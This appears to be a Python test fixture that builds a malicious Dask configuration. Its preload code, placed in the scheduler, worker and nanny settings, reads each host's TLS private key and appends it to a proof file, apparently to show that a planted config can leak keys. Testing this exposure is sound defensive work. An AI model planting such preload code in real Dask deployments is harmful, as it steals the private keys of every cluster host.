"""What an attacker plants: a Dask configuration whose preload hands over the host's key."""

from __future__ import annotations

from pathlib import Path
from typing import Any

_PRELOAD = """\
import dask
with open(dask.config.get("distributed.comm.tls.{role}.key")) as key:
    print(key.read(), file=open({proof!r}, "a"), flush=True)
"""


def planted_config(proof: Path) -> dict[str, Any]:
    """Return Dask's configuration by which every host would write its key to a file."""

    def preload(role: str) -> dict[str, Any]:
        return {"preload": [_PRELOAD.format(role=role, proof=str(proof))]}

    return {
        "distributed": {
            "scheduler": preload("scheduler"),
            "worker": preload("worker"),
            "nanny": preload("worker"),
        }
    }
